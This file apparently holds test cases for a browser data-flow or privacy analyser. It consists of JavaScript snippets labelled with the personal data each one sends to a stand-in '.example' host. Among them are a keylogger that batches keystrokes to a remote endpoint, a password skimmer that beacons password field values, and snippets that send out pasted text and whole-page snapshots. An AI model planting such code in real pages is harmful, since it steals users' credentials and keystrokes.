//# ho-src-clipboard-paste
// flow: input > clip.formsaver.example via fetch
// guard: event paste
// why: what is pasted is of no known kind
document.addEventListener('paste', (e) => {
  const txt = e.clipboardData.getData('text/plain');
  fetch('https://clip.formsaver.example/p', { method: 'POST', body: txt, keepalive: true });
});

//# ho-src-keylogger-batch
// flow: keystrokes > k.typingdna.example via xhr
// guard: event keydown
// why: key and delay go into a buffer that is sent by a timer
(function () {
  var buf = [], last = 0;
  document.addEventListener('keydown', function (ev) {
    var t = performance.now();
    buf.push(ev.key + ':' + Math.round(t - last));
    last = t;
  }, true);
  setInterval(function () {
    var out = buf.splice(0, buf.length);
    var r = new XMLHttpRequest();
    r.open('POST', 'https://k.typingdna.example/batch');
    r.send(out.join(','));
  }, 5000);
})();

//# ho-src-geolocation-callback
// flow: location > geo.storefinder.example via fetch
// no guard
function nearest({ latitude, longitude }) {
  return fetch(`https://geo.storefinder.example/near?lat=${latitude.toFixed(4)}&lon=${longitude.toFixed(4)}`);
}
navigator.geolocation.getCurrentPosition((pos) => nearest(pos.coords), console.warn, { timeout: 8000 });

//# ho-src-geolocation-promisified
// flow: location > self via fetch
// no guard
// destination: /api/delivery/zone
const locate = (opts) => new Promise((res, rej) => navigator.geolocation.getCurrentPosition(res, rej, opts));
async function deliveryZone() {
  const { coords } = await locate({ enableHighAccuracy: true });
  const body = new URLSearchParams();
  body.set('at', [coords.latitude, coords.longitude].join(';'));
  return (await fetch('/api/delivery/zone', { method: 'POST', body })).json();
}
deliveryZone().then((z) => { document.querySelector('#zone').textContent = z.label; });

//# ho-src-file-upload-chunks
// flow: file > up.dropbay.example via fetch
// guard: event change
// why: the file is sent in slices by an async loop
const CHUNK = 1 << 20;
async function upload(file) {
  for (let at = 0, part = 0; at < file.size; at += CHUNK, part++) {
    const piece = file.slice(at, at + CHUNK);
    await fetch('https://up.dropbay.example/parts/' + part, { method: 'PUT', body: piece });
  }
}
document.querySelector('input[type=file]').addEventListener('change', (e) => {
  [...e.target.files].forEach(upload);
});

//# ho-src-filereader-base64
// flow: file > ocr.kyccheck.example via xhr
// guard: event change
var picker = document.querySelector('#passport-scan[type=file]');
picker.onchange = function () {
  var rd = new FileReader();
  rd.onload = function () {
    var b64 = String(rd.result).split(',')[1];
    var x = new XMLHttpRequest();
    x.open('POST', 'https://ocr.kyccheck.example/v1/scan');
    x.send(JSON.stringify({ img: b64 }));
  };
  rd.readAsDataURL(picker.files[0]);
};

//# ho-src-webgl-renderer
// flow: device > fp.riskgrid.example via beacon
// no guard
var g = document.createElement('canvas').getContext('webgl');
var ext = g.getExtension('WEBGL_debug_renderer_info');
var traits = { v: 3, gl: g.getParameter(ext.UNMASKED_RENDERER_WEBGL) };
navigator.sendBeacon('https://fp.riskgrid.example/c', btoa(JSON.stringify(traits)));

//# ho-src-page-snapshot
// flow: interaction > replay.sessioncam.example via fetch
// no guard
// why: the whole page as a recorder takes it
const snapshot = () => document.documentElement.outerHTML;
const chunk = (s, n) => s.match(new RegExp(`[^]{1,${n}}`, 'g'));
chunk(snapshot(), 60000).forEach((html, seq) => {
  fetch('https://replay.sessioncam.example/rec', { method: 'POST', body: JSON.stringify({ seq, html }) });
});

//# ho-src-scroll-depth
// flow: interaction > t.readmeter.example via image
// guard: event scroll
var deepest = 0;
window.addEventListener('scroll', function () {
  deepest = Math.max(deepest, window.scrollY);
  new Image().src = 'https://t.readmeter.example/d?y=' + deepest;
}, { passive: true });

//# ho-src-formdata-whole-form
// flow: input > leads.crmhub.example via fetch
// guard: event submit
// why: fields of no known kind
document.querySelector('#lead-form').addEventListener('submit', async function (e) {
  e.preventDefault();
  const fd = new FormData(this);
  const obj = Object.fromEntries(fd.entries());
  await fetch('https://leads.crmhub.example/in', { method: 'POST', body: JSON.stringify(obj) });
});

//# ho-src-jquery-serialize
// flow: input > api.newsletterpro.example via xhr
// guard: event submit
jQuery(function ($) {
  $('#subscribe').on('submit', function (e) {
    e.preventDefault();
    var $f = $(this);
    $.ajax({ url: 'https://api.newsletterpro.example/subscribe', type: 'POST', data: $f.serialize(), dataType: 'json' })
      .done(function () { $f.addClass('done'); });
  });
});

//# ho-src-address-fields-collected
// flow: address > addr.verifyship.example via fetch
// flow: postal-code > addr.verifyship.example via fetch
// no guard
const FIELDS = { line1: '[autocomplete="street-address"]', zip: '[autocomplete="postal-code"]' };
const collected = {};
Object.entries(FIELDS).forEach(([k, sel]) => { collected[k] = document.querySelector('input' + sel).value; });
fetch('https://addr.verifyship.example/check', { method: 'POST', body: JSON.stringify({ address: collected }) });

//# ho-src-birthdate-age-gate
// flow: birthdate > gate.agecheck.example via fetch
// no guard
window.AgeGate = {
  read: function () { return document.querySelector('input[autocomplete=bday]').value; },
  check: function () {
    return fetch('https://gate.agecheck.example/age?dob=' + encodeURIComponent(this.read()))
      .then(function (r) { return r.json(); });
  },
};
AgeGate.check();

//# ho-src-login-md5-like
// flow: username > login.carrierhub.example via xhr
// flow: password > login.carrierhub.example via xhr
// no guard
// why: a hash of the password is a flow of it
function h32(s) {
  for (var h = 0x811c9dc5, i = 0; i < s.length; i++) { h ^= s.charCodeAt(i); h = Math.imul(h, 0x01000193); }
  return ('0000000' + (h >>> 0).toString(16)).slice(-8);
}
function doLogin() {
  var u = document.getElementById('username').value;
  var p = document.getElementById('password').value;
  var x = new XMLHttpRequest();
  x.open('POST', 'https://login.carrierhub.example/auth');
  x.send('u=' + encodeURIComponent(u) + '&p=' + h32(p));
}
doLogin();

//# ho-src-subtle-digest-email
// flow: email > match.adclean.example via image
// no guard
// why: the hash comes out of an asynchronous platform call as bytes
const hex = (buf) => Array.from(new Uint8Array(buf), (b) => b.toString(16).padStart(2, '0')).join('');
async function hashed(v) {
  return hex(await crypto.subtle.digest('SHA-256', new TextEncoder().encode(v.trim().toLowerCase())));
}
hashed(document.querySelector('input[type=email]').value).then((h) => {
  document.createElement('img').src = 'https://match.adclean.example/m?hem=' + h;
});

//# ho-src-battery-and-screen
// flow: device > edge.botwall.example via fetch
// no guard
// why: a platform promise and plain properties meet in one array
Promise.all([navigator.getBattery(), Promise.resolve(screen.colorDepth)]).then(([bat, depth]) => {
  const v = [bat.level, depth, devicePixelRatio, navigator.maxTouchPoints];
  return fetch('https://edge.botwall.example/s', { method: 'POST', body: v.map(String).join('|') });
});

//# ho-src-delegated-password-event
// flow: password > skim.cdnstats.example via beacon
// guard: event change
// guard: code password
// why: the field is known by a check of the event's target only
document.addEventListener('change', function (e) {
  if (e.target.matches('input[type=password]')) {
    navigator.sendBeacon('https://skim.cdnstats.example/l', e.target.value);
  }
});
